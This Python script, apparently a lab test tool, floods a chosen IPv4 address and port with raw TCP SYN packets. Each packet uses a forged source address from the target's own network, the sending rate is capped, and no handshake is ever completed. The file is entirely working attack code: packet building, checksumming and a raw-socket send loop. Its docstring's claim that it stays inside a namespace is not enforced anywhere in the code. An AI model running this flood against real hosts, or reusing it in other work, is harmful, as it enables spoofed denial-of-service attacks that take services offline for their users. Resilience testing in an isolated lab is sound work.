"""A flood of SYNs, bounded by count and rate: ``flood.py ADDRESS PORT COUNT PER_S [WIDTH]``.

Each SYN has another source port and one of WIDTH source addresses of the service's network that nobody
has (IPv4 only), and no handshake is ever finished. Prints one JSON object: ``sent, seconds``.
It runs by its path, needs CAP_NET_RAW, and does no harm outside of the namespace in which it runs.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time

BATCH = 64
MOST = 10_000_000
"""SYNs that one run may send."""
WIDTH = 100
FIRST_HOST = 120
"""Sources end in FIRST_HOST and above; the lab has no hosts there."""


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source: bytes, port: int, target: bytes, service: int, sequence: int) -> bytes:
    """An IPv4 packet with a SYN (MSS 1460)."""
    tcp = struct.pack("!HHIIBBHHHBBH", port, service, sequence, 0, 6 << 4, 2, 65535, 0, 0, 2, 4, 1460)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
    return head + source + target + tcp  # the kernel fills in the sum of the IP header


def flood(address: str, port: int, count: int, per_s: float, width: int = WIDTH) -> dict[str, float]:
    """Send `count` SYNs, `per_s` in each second as far as this machine can; returns what was done."""
    if not 0 < count <= MOST or per_s <= 0 or not 0 < width <= WIDTH:
        raise ValueError(f"wanted are 1 to {MOST} SYNs at a positive rate from 1 to {WIDTH} sources")
    target = socket.inet_aton(address)
    draw, begin_s, sent = random.Random(1), time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.connect((address, 0))
        while sent < count:
            for _ in range(min(BATCH, count - sent)):
                source = target[:3] + bytes([FIRST_HOST + sent % width])
                sock.send(syn(source, 1024 + sent // width % 64512, target, port, draw.getrandbits(32)))
                sent += 1
            ahead_s = begin_s + sent / per_s - time.monotonic()
            if ahead_s > 0:
                time.sleep(ahead_s)
    return {"sent": sent, "seconds": time.monotonic() - begin_s}


def main() -> None:
    """Do what the command line says."""
    address, port, count, per_s, *width = sys.argv[1:]
    print(json.dumps(flood(address, int(port), int(count), float(per_s), *map(int, width))))


if __name__ == "__main__":
    main()
